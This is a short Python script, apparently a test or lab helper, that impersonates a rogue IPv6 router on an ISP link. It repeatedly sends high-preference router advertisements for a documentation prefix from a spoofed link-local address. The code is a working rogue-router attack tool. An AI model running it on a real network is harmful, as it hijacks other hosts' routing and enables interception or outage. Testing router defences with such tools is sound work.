"""A rogue router on the ISP's network, run inside its host: ``rogue_router.py LIFETIME``.

The router announces a prefix and itself with high preference, twice a second (RFC 4861, 4.2; RFC 4191).
``LIFETIME`` is in seconds; 0 takes the announcement back, once.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

INTERFACE = "wan"
SOURCE = "fe80::bad"
PREFIX = "2001:db8:bad::"
INTERVAL = 0.5  # seconds
_HIGH = 0b01 << 3
_ON_LINK_AND_AUTONOMOUS = 0xC0


def advertisement(lifetime: int) -> bytes:
    """The router advertisement without its checksum, which the kernel fills in (RFC 3542, 3.1)."""
    head = struct.pack(">BBHBBHII", 134, 0, 0, 64, _HIGH, lifetime, 0, 0)
    prefix = struct.pack(">BBBBIII", 3, 4, 64, _ON_LINK_AND_AUTONOMOUS, lifetime, lifetime, 0)
    return head + prefix + socket.inet_pton(socket.AF_INET6, PREFIX)


def main() -> None:
    lifetime = int(sys.argv[1])
    index = socket.if_nametoindex(INTERFACE)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as router:
        router.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        router.bind((SOURCE, 0, 0, index))
        while True:
            router.sendto(advertisement(lifetime), ("ff02::1", 0, 0, index))
            if not lifetime:
                return
            time.sleep(INTERVAL)


if __name__ == "__main__":
    main()
